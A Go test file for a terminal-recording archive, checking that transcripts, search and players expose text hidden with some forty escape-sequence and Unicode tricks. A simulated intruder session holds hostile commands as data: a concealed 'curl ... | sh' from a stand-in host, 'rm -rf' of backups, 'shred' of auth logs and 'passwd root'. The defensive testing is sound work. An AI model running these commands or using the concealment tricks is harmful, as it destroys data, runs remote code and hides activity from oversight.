// SPDX-License-Identifier: AGPL-3.0-or-later

package web

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/url"
	"os"
	"strings"
	"testing"
	"time"

	"castgate/upload/archive"
	"castgate/upload/archive/screen"
	"castgate/wrap/asciicast"
)

// trick is a way to write a word so that somebody does not see it.
type trick struct {
	what   string
	events []string // a second apart; "80x24" changes the window's size
	hidden string   // how the transcript says that it was hidden; "" when it is to see
	line   string   // what it has of it: word, unless the word is not written as such
}

const word = "nightfall"

// each makes an event of every byte.
func each(s string) (events []string) {
	for i := range len(s) {
		events = append(events, s[i:i+1])
	}
	return events
}

// spread writes every letter with sequence, which has a place for its column.
func spread(sequence string) (s string) {
	for i := len(word) - 1; i >= 0; i-- {
		s += fmt.Sprintf(sequence, i+5) + word[i:i+1]
	}
	return s
}

// coded spells word with characters that show nothing.
func coded(code func(byte) rune) (s string) {
	for i := range len(word) {
		s += string(code(word[i]))
	}
	return s
}

func tricks() []trick {
	tag := func(b byte) rune { return 0xe0000 + rune(b) }
	selector := func(b byte) rune { return 0xe0100 + rune(b) - 16 }
	wide := func(b byte) rune { return 0xff41 + rune(b) - 'a' }
	return []trick{
		{"an OSC string (title) that does not end", []string{"$ \x1b]0;x", "\r\n" + word + "\r\n", "$ exit\r\n"}, "control string", word},
		{"a DCS string that does not end", []string{"$ \x1bP1$r", "\r\n" + word + "\r\n"}, "control string", word},
		{"an APC string that does not end", []string{"$ \x1b_G", "\r\n" + word + "\r\n"}, "control string", word},
		{"a PM string that does not end", []string{"$ \x1b^x", "\r\n" + word + "\r\n"}, "control string", word},
		{"a SOS string that does not end", []string{"$ \x1bX", word}, "control string", word},
		{"a title with line breaks", []string{"\x1b]0;x\r\n" + word + "\r\n\x07$ "}, "control string", word},
		{"a notification", []string{"\x1b]9;" + word + "\x07$ "}, "control string", word},
		{"a sixel image that does not end", []string{"\x1bPq", "\r\n" + word + "\r\n", "$ exit\r\n"}, "control string", word},
		{"words between the pixels of a sixel image", []string{"\x1bPq#0~~-\r\nrun " + word + " now\r\n#0~~\x1b\\$ "}, "control string", "run " + word + " now"},
		{"concealed (SGR 8)", []string{"\x1b[8m" + word + "\x1b[m\r\n"}, "concealed", word},
		{"in the background's colour", []string{"\x1b[31;41m" + word + "\x1b[m\r\n"}, "concealed", word},
		{"in almost the background's colour", []string{"\x1b[38;2;9;9;9;48;5;232m" + word + "\x1b[m\r\n"}, "concealed", word},
		{"black on the terminal's background", []string{"\x1b[30m" + word + "\x1b[m\r\n"}, "concealed", word},
		{"overwritten at once", []string{word + "\rharmless!\r\n"}, "overwritten", word},
		{"overwritten by the next event", []string{word, "\rharmless!\r\n"}, "overwritten", word},
		{"its line erased", []string{word, "\r\x1b[K$ "}, "erased", word},
		{"the screen erased", []string{word, "\x1b[2J\x1b[H$ "}, "erased", word},
		{"the terminal reset", []string{word, "\x1bc$ "}, "erased", word},
		{"rubbed out with backspaces", []string{word, strings.Repeat("\b \b", len(word)), "$ "}, "rubbed out", word},
		{"an alternate screen that flickers", []string{"\x1b[?1049h" + word + "\x1b[?1049l$ "}, "flickered", word},
		{"the screen filled with E (DECALN)", []string{word, "\x1b#8", "\x1b[2J"}, "erased", word},
		{"pushed off the line in insert mode", []string{"\x1b[71G" + word, "\r\x1b[4h" + strings.Repeat("x", 70) + "\x1b[4l\r\n"}, "erased", word},
		{"scrolled out of a region of two lines", []string{"\x1b[5;6r\x1b[5H" + word, "\x1b[6H\r\n\r\n\r\n"}, "erased", word},
		{"a region of one line, which is none", []string{"\x1b[5;5r\x1b[5H" + word + "\r\n\r\n"}, "", word},
		{"behind the last column, without wrapping", []string{"\x1b[?7l\x1b[500C " + word + ".\x1b[?7h\r\n"}, "off screen", word},
		{"tabs to column 500", []string{strings.Repeat("\t", 63) + word + "\r\n"}, "", word},
		{"the cursor to column 500", []string{"\x1b[500G" + word + "\r\n"}, "", word},
		{"cut off by a narrower window", []string{"\x1b[40G" + word, "3x24", "80x24", "$ "}, "off screen", word},
		{"written while the window is 1x1", []string{"1x1", word, "80x24", "\r\n$ "}, "", word},
		{"written from right to left", []string{spread("\x1b[%dG") + "\r\n"}, "", word},
		{"the last letters by REP", []string{"nightfal\x1b[b\r\n"}, "", word},
		{"in the line-drawing character set", []string{"\x1b(0" + word + "\x1b(B\r\n"}, "character set", word},
		{"tags, which no terminal shows", []string{"x" + coded(tag) + "\r\n"}, "invisible", word},
		{"variation selectors, which no terminal shows", []string{"x" + coded(selector) + "\r\n"}, "invisible", word},
		{"more invisible characters than a cell keeps", []string{"x" + strings.Repeat(coded(tag)+"\U000e0020", 3) + "\r\n"}, "invisible", word + " " + word + " " + word},
		{"variation selectors between the letters", []string{strings.Join(each(word), "\ufe0e") + "\r\n"}, "", strings.Join(each(word), "\ufe0e")},
		{"zero-width characters between the letters", []string{strings.Join(each(word), "\u200b") + "\r\n"}, "", strings.Join(each(word), "\u200b")},
		{"half-width and full-width letters", []string{coded(wide) + "\r\n"}, "", coded(wide)},
		{"reversed, with a right-to-left override", []string{"\u202ellafthgin\u202c\r\n"}, "", "\u202ellafthgin\u202c"},
		{"bytes that are not UTF-8 between the letters", []string{"night\xfffall\r\n"}, "", "night\ufffdfall"},
		{"8-bit controls (C1)", []string{"\u009d0;" + word + "\u009c \u009b8m\r\n"}, "", "0;" + word + " 8m"},
		{"events of one byte each", append(each("\x1b]0;x\n"+word+"\n"), "$ "), "control string", word},
		{"events of one byte each, and erased", each(word + "\r\x1b[K$ "), "erased", word},
	}
}

// take makes the trick's recording.
func (tr trick) take(s *sample) *take {
	k := s.take("mallory", "web1", "")
	k.header.Term.Cols, k.header.Term.Rows = 80, 24
	for _, ev := range tr.events {
		var cols, rows int
		if n, err := fmt.Sscanf(ev, "%dx%d", &cols, &rows); n == 2 && err == nil {
			k.resize(cols, rows)
			continue
		}
		k.show(time.Second, ev)
	}
	return k.end(0)
}

// shownBy plays a cast as castgate play does, with control strings as text, and
// says whether the word stands on the screen after some event.
func shownBy(t *testing.T, cast []byte) string {
	t.Helper()
	for _, reveal := range []bool{false, true} {
		w := &watcher{Screen: screen.New(80, 24)}
		p := &asciicast.Player{Out: w, Reveal: reveal, Open: func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(cast)), nil }}
		if err := p.Play(t.Context()); err != nil {
			t.Fatal(err)
		}
		switch {
		case w.seen && reveal:
			return "as text"
		case w.seen:
			return "shown"
		}
	}
	return "-"
}

// playedOn says whether the word stands, after some event, on the screen of the
// page's player.
func playedOn(t *testing.T, v *visitor, id, how string) bool {
	t.Helper()
	_, text := v.get("/r/" + id + "/" + how + "/s0.json")
	w := &watcher{Screen: screen.New(80, 24)}
	playSegment(t, []byte(text), w)
	return w.seen
}

// watcher looks at the screen after each event. What is in colours that hide it
// is not to see, though it is on the screen.
type watcher struct {
	*screen.Screen
	seen, veiled bool
}

func (w *watcher) Write(p []byte) (int, error) {
	w.veiled = w.veiled || bytes.Contains(p, []byte("\x1b[31;41m")) || bytes.Contains(p, []byte("\x1b[38;2;9;9;9")) || bytes.Contains(p, []byte("\x1b[30m"))
	_, _ = w.Screen.Write(p)
	for _, line := range append(w.Text(), strings.Join(w.Text(), "")) {
		for _, reading := range append(archive.Readings(line), strings.ReplaceAll(line, "<U+200B>", "")) {
			w.seen = w.seen || strings.Contains(reading, word) && !w.veiled
		}
	}
	return len(p), nil
}

// hiding is a session in which somebody hides what they do, and looks at a picture.
func (s *sample) hiding() *take {
	k := s.take("mallory", "web9.example.org", "mallory-gh")
	k.typed("ls -l /srv", "total 8\ndrwxr-xr-x 2 root root 4096 Nov 20 08:00 backup\ndrwxr-xr-x 5 root root 4096 Nov 20 08:00 shop\n")
	k.typed("img2sixel plan.png", "\x1bP0;1;0q\"1;1;400;300"+strings.Repeat("#0!80~$#1!80@-", 90_000)+"\x1b\\\n")
	k.typed(`printf '\033]0;syncing'`, "\x1b]0;syncing")
	k.show(time.Second, "\r\n$ rm -rf /srv/backup\r\n")
	k.show(time.Second, "removed 4096 files\r\n")
	k.typed("echo done", "done\n")
	k.show(time.Second, "\x1b[8mcurl -s https://198.51.100.7/x | sh\x1b[m\r\n")
	k.show(time.Second, "shred -u /var/log/auth.log")
	k.show(time.Second, "\r\x1b[K")
	k.typed("uptime", " 08:12:40 up 41 days\n")
	k.show(time.Second, "passwd root")
	k.show(time.Second, strings.Repeat("\b \b", 11))
	return k.typed("exit", "logout\n").end(0)
}

var updateDoc = flag.Bool("update", false, "write docs/hidden-text.md")

const hiddenDoc = "../../../docs/hidden-text.md"

const hiddenHead = `# Text that is written so that nobody sees it

Made by ` + "`go test ./upload/archive/web -run TestHiddenText -args -update`" + `: each row is
a recording in which a word is written in that way. It is in the transcript
(` + "`castgate text`" + `, the page) with the mark of the second column, and
` + "`castgate search`" + ` and the page's search find it; where there is a mark, the page
lists it under *hidden text*, ` + "`castgate text -hidden`" + ` prints it, and
` + "`castgate search -visible`" + ` leaves it out. The last column says whether a player
shows it when it plays the recording: as it is, with ` + "`castgate play -hidden`" + ` or
*Strings as text* on the page, or not at all. The page's player has the
window's size of then; ` + "`castgate play`" + ` writes on a terminal of its own size.

| written | marked | played |
|---|---|---|
`

const hiddenTail = `
Not text, and not found: letters drawn with blocks or dots, which are a picture;
letters of another script that look the same; what an image shows, which is one
line with its format and size. States of one line that differ in digits and
signs only, as a progress bar's, come once. A program that asks for far more
work than it writes bytes is not followed for ever: the transcript says so where
that begins (*not followed*).
`

// TestHiddenText tries every trick against the transcript, the search, the page
// and the player.
func TestHiddenText(t *testing.T) {
	s := newSample(t)
	all := tricks()
	ids, casts := make([]string, len(all)), make([][]byte, len(all))
	for i, tr := range all {
		k := tr.take(s)
		ids[i], casts[i] = s.keep(k), k.cast(t)
	}
	v := newVisitor(t, s.page(tokenAuth(t, testToken))).signIn(testToken)
	_, found := v.get("/search?q=" + url.QueryEscape(word))
	_, visibleOnly := v.get("/search?visible=1&q=" + url.QueryEscape(word))
	table := hiddenHead
	for i, tr := range all {
		if !transcribed(t, casts[i], tr) {
			continue
		}
		if !strings.Contains(found, ids[i]) {
			t.Errorf("%s: the search does not find it", tr.what)
		}
		if strings.Contains(visibleOnly, ids[i]) != (tr.hidden == "") {
			t.Errorf("%s: hidden is %q, and a search for what was visible finds it: %v", tr.what, tr.hidden, tr.hidden != "")
		}
		listed(t, v, ids[i], tr)
		how := tr.hidden
		if how == "" {
			how = "to see"
		}
		played := shownBy(t, casts[i])
		if tr.hidden == "" && played != "shown" && !strings.Contains(tr.what, "right-to-left") {
			t.Errorf("%s: is to see, and played: %s", tr.what, played)
		}
		switch inPage, asText := playedOn(t, v, ids[i], "play"), playedOn(t, v, ids[i], "reveal"); {
		case played == "shown" && !inPage:
			played = "by castgate play"
		case played == "as text" && (inPage || !asText):
			t.Errorf("%s: the page's player shows it: %v, strings as text: %v", tr.what, inPage, asText)
		}
		table += fmt.Sprintf("| %s | %s | %s |\n", tr.what, how, played)
	}
	compareDoc(t, table+hiddenTail)
}

// transcribed says whether the transcript has the trick's line, as it should be
// marked.
func transcribed(t *testing.T, cast []byte, tr trick) bool {
	t.Helper()
	var lines []string
	ok := false
	_, err := archive.Transcribe(t.Context(), bytes.NewReader(cast), func(l screen.Line) {
		lines = append(lines, fmt.Sprintf("%v/%v %s", l.Kind, l.Hidden, l.Text))
		ok = ok || l.Hidden.String() == tr.hidden && strings.Contains(l.Text, tr.line)
	})
	if !ok || err != nil {
		t.Errorf("%s: the transcript has no line %q that is %q: %q %v", tr.what, tr.line, tr.hidden, lines, err)
	}
	return ok
}

// listed looks for the trick on the page.
func listed(t *testing.T, v *visitor, id string, tr trick) {
	t.Helper()
	_, text := v.get("/r/" + id + "/play/outline.json")
	var o Outline
	if err := json.Unmarshal([]byte(text), &o); err != nil {
		t.Fatal(err)
	}
	in := func(lines []OutLine) (found bool) {
		for _, l := range lines {
			found = found || l.Hidden == tr.hidden && strings.Contains(l.Text, visible(tr.line))
		}
		return found
	}
	if !in(o.Lines) || in(o.Hidden) != (tr.hidden != "") || o.Strings != (tr.hidden == "control string") {
		t.Errorf("%s: on the page are %+v, hidden %+v, strings %v", tr.what, o.Lines, o.Hidden, o.Strings)
	}
}

func compareDoc(t *testing.T, table string) {
	t.Helper()
	if *updateDoc && !t.Failed() {
		if err := os.WriteFile(hiddenDoc, []byte(table), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	doc, err := os.ReadFile(hiddenDoc)
	if err != nil {
		t.Fatal(err)
	}
	if string(doc) != table {
		t.Errorf("docs/hidden-text.md is not what was found; want:\n%s", table)
	}
}

// A string that nobody ends for long, and an image of several megabytes, change
// nothing on the player's screen until they end. Shown as text, the string is as
// long as several segments: each begins with the screen that the one before it
// ends with, and the last ends with what castgate play -hidden shows.
func TestStringsAcrossSegments(t *testing.T) {
	s := newSample(t)
	k := s.take("mallory", "web1", "")
	k.header.Term.Cols, k.header.Term.Rows = 80, 24
	k.show(time.Second, "before\r\n\x1bPq")
	for range 40 {
		k.show(time.Second, strings.Repeat("#0!80~$#1!80@-", 4000))
	}
	k.show(time.Second, "\x1b\\between\r\n\x1b]0;x")
	for i := range 900 { // terminals give a string up at 1 MiB
		k.show(time.Second, strings.Repeat(fmt.Sprintf("hidden words %04d %s\r\n", i, strings.Repeat("-", 60)), 12))
	}
	cast := k.show(time.Second, "\x07after\r\n").end(0).cast(t)
	for _, reveal := range []bool{false, true} {
		out := memory{}
		if err := prepare(bytes.NewReader(cast), out, reveal); err != nil {
			t.Fatal(err)
		}
		checkSegments(t, out)
		ends := ""
		n := 0
		for ; out[fmt.Sprintf("s%d.json", n)] != nil; n++ {
			begins, end := playSegment(t, out[fmt.Sprintf("s%d.json", n)], &watcher{Screen: screen.New(80, 24)})
			if begins != ends {
				t.Errorf("reveal %v, segment %d begins with %q, the one before ends with %q", reveal, n, begins, ends)
			}
			ends = end
		}
		w := &watcher{Screen: screen.New(80, 24)}
		p := &asciicast.Player{Out: w, Reveal: reveal, Open: func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(cast)), nil }}
		if err := p.Play(t.Context()); err != nil {
			t.Fatal(err)
		}
		played := strings.TrimSpace(strings.Join(w.Text(), "\n"))
		switch hidden := strings.Contains(ends, "hidden words 0899"); {
		case ends != played, hidden != reveal:
			t.Errorf("reveal %v: the last segment ends with %q, castgate play with %q", reveal, ends, played)
		case reveal && n < 3:
			t.Errorf("only %d segments", n)
		case !reveal && ends != "before\nbetween\nafter":
			t.Errorf("%q is shown", ends)
		}
	}
}

// playSegment returns the text that a segment begins with, and ends with, on w.
func playSegment(t *testing.T, data []byte, w *watcher) (begins, ends string) {
	t.Helper()
	var seg struct {
		Snapshot struct {
			Cols, Rows int
			Init       string
		}
		Events [][3]any
	}
	if err := json.Unmarshal(data, &seg); err != nil {
		t.Fatalf("%v: %.200s", err, data)
	}
	text := func() string { return strings.TrimSpace(strings.Join(w.Text(), "\n")) }
	w.Resize(seg.Snapshot.Cols, seg.Snapshot.Rows)
	_, _ = w.Write([]byte(seg.Snapshot.Init))
	begins = text()
	for _, ev := range seg.Events {
		switch data := ev[2].(string); ev[1] {
		case asciicast.Output:
			_, _ = w.Write([]byte(data))
		case asciicast.Resize:
			if cols, rows, ok := asciicast.ParseSize([]byte(data)); ok {
				w.Resize(cols, rows)
			}
		}
	}
	return begins, text()
}
